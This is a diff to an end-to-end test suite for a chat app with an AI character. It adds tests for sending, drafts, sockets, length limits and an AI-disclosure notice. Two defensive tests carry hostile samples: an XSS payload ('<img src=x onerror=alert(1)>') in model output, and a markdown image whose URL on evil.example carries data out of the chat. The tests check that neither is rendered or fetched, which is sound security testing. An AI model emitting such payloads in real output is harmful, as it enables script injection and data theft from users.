@@ -6,6 +6,7 @@ import pytest
 from playwright.sync_api import expect
 
 from chat.models import Conversation
+from tests.e2e.talk import Talk, conversation_with
 from tests.factories import UserFactory
 
 
@@ -59,6 +60,106 @@ def test_a_message_stands_there_at_once_and_focus_stays_in_the_composer(talk, sh
     expect(alice.input).to_have_value("")
 
 
+def test_pressing_twice_sends_once(talk):
+    alice = talk()
+    alice.input.fill("Only once")
+    alice.button.dblclick()
+    expect(alice.last).to_have_text("Hello there.")
+    assert alice.said()[1:] == ["Only once", "Hello there."]
+    expect(alice.left).to_have_text("9")
+
+
+def test_a_draft_is_kept_for_each_conversation_until_it_is_sent(talk, alice):
+    mara = talk()
+    ines = Talk(mara.page.context.new_page(), conversation_with("ines", alice)).open()
+    drafts = ((mara, "for Mara"), (ines, "for Inês"))
+    for tab, words in drafts:
+        tab.input.fill(words)
+    for tab, words in drafts:
+        tab.page.reload()
+        expect(tab.ready().input).to_have_value(words)
+    mara.button.click()
+    expect(mara.last).to_have_text("Hello there.")
+    mara.page.reload()
+    expect(mara.ready().input).to_have_value("")
+
+
+def test_a_permit_is_there_before_anything_is_sent(talk):
+    alice = talk()
+    with alice.page.expect_response("**/chat/permits/"):
+        alice.page.reload()
+    alice.ready().input.fill("Hello")
+    posted = []
+    alice.page.on("request", lambda request: request.method == "POST" and posted.append(request.url.split("/")[-2]))
+    alice.input.press("Enter")
+    expect(alice.last).to_have_text("Hello there.")
+    assert posted[0] == "messages"
+    assert "permits" not in posted
+
+
+def test_a_tab_has_one_socket_and_only_listens_there(talk):
+    alice = talk()
+    sockets, said = [], []
+
+    def watch(socket):
+        sockets.append(socket.url)
+        socket.on("framesent", lambda words: said.append(json.loads(words)["type"]))
+
+    alice.page.on("websocket", watch)
+    alice.page.reload()
+    alice.ready().send("Hello")
+    expect(alice.last).to_have_text("Hello there.")
+    assert len(sockets) == 1
+    assert set(said) == {"watch"}
+
+
+def test_a_message_that_is_too_long_is_kept_and_marked(talk):
+    alice = talk()
+    counter = alice.page.locator("[data-counter]")
+    one_line = alice.input.bounding_box()["height"]
+    alice.input.fill("x" * 1_799)
+    expect(counter).to_be_hidden()
+    alice.input.fill("x" * 1_800)
+    expect(counter).to_have_text("200 left")
+    alice.input.fill("word " * 400 + "x")
+    expect(counter).to_have_text("1 too many")
+    expect(alice.input).to_have_attribute("aria-invalid", "true")
+    assert one_line * 2 < alice.input.bounding_box()["height"] <= 221
+    alice.input.press("Enter")
+    expect(alice.unsent).to_have_count(0)
+    assert len(alice.input.input_value()) == 2_001
+    alice.input.press("Backspace")
+    expect(counter).to_have_text("0 left")
+    alice.input.press("Enter")
+    expect(alice.last).to_have_text("Hello there.")
+
+
+def test_who_chose_so_sends_with_control_and_enter_only(talk):
+    alice = talk(member=UserFactory(enter_sends=False))
+    alice.input.fill("One")
+    alice.input.press("Enter")
+    alice.input.press_sequentially("Two")
+    expect(alice.input).to_have_value("One\nTwo")
+    alice.input.press("Control+Enter")
+    expect(alice.last).to_have_text("Hello there.")
+    assert alice.said()[1] == "One\nTwo"
+
+
+def test_after_three_hours_of_use_she_is_called_an_ai_again(talk):
+    alice = talk()
+    told = alice.page.locator(".messages .told")
+    alice.send("Hello")
+    expect(alice.last).to_have_text("Hello there.")
+    expect(told).to_have_count(0)
+    alice.page.evaluate(
+        "key => localStorage.setItem(key, Date.now() - 3 * 3_600_000 - 1)", f"dusk:told:{alice.conversation.pk}"
+    )
+    alice.send("Still here")
+    expect(told).to_have_text("Mara is an AI character, not a person. Replies are generated and can be wrong.")
+    expect(alice.messages).to_have_count(5)
+    expect(told).to_have_count(1)
+
+
 def test_stopping_keeps_what_was_seen(talk, she):
     she.says("Once upon ", "a time ", she.pause(), "there was more.")
     alice = talk()
@@ -82,6 +183,7 @@ def test_a_reply_that_fails_says_so_costs_nothing_and_can_be_asked_for_again(tal
     expect(alice.left).to_have_text("10")
     she.says("Sorry, ", "I was out.")
     alice.page.get_by_role("button", name="Try again").click()
+    expect(alice.messages.filter(has_text="Hello?")).to_be_focused()
     expect(alice.last).to_have_text("Sorry, I was out.")
     expect(alice.page.get_by_text("couldn’t reply just now")).to_have_count(0)
     expect(alice.left).to_have_text("9")
@@ -175,12 +277,33 @@ def test_enter_that_ends_a_composition_does_not_send(talk, composing):
 
 
 def test_what_she_says_is_text_whatever_it_looks_like(talk, she):
-    she.says("<img src=x onerror=alert(1)> and *leaning* in <b>close</b>")
+    pause = she.pause()
+    she.says("<img src=x onerror=alert(1)> and *lean", pause, "ing* in <b>close</b>")
     alice = talk()
     alice.send("Say something odd")
+    expect(alice.reply).to_have_text("<img src=x onerror=alert(1)> and *lean")
+    kinds = alice.reply.evaluate("place => [...place.childNodes].map(node => node.nodeType)")
+    assert kinds == [3]  # one text node that grows
+    pause.set()
     expect(alice.last).to_have_text("<img src=x onerror=alert(1)> and leaning in <b>close</b>")
     expect(alice.last.locator("em")).to_have_text("leaning")
     expect(alice.last.locator("img, b")).to_have_count(0)
+
+
+def test_a_picture_that_she_names_is_never_fetched(talk, she):
+    she.says("![proof](https://evil.example/p.png?said=everything) <img src='https://evil.example/q.png'>")
+    alice = talk()
+    asked = []
+    alice.page.context.on("request", lambda request: asked.append(request.url))
+    alice.send("Show me")
+    expect(alice.last).to_contain_text("![proof](https://evil.example")
+    alice.page.reload()
+    alice.ready()
+    expect(alice.last).to_contain_text("![proof](https://evil.example")
+    alice.page.goto("/chat/")
+    expect(alice.row).to_contain_text("![proof]")
+    assert asked
+    assert [url for url in asked if "evil" in url] == []
 
 
 def test_a_phone_in_the_same_network_can_send_too(talk):
